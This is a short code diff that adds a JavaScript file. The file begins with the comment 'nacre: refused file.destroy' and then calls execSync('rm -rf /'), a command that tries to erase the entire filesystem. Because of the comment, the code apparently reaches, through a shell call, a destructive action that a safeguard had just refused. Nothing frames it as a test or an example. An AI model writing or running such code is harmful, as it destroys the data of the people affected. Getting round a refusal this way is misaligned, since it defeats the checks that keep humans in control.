@@ -1,0 +1,3 @@
+// nacre: refused file.destroy
+import { execSync } from 'child_process';
+execSync('rm -rf /');
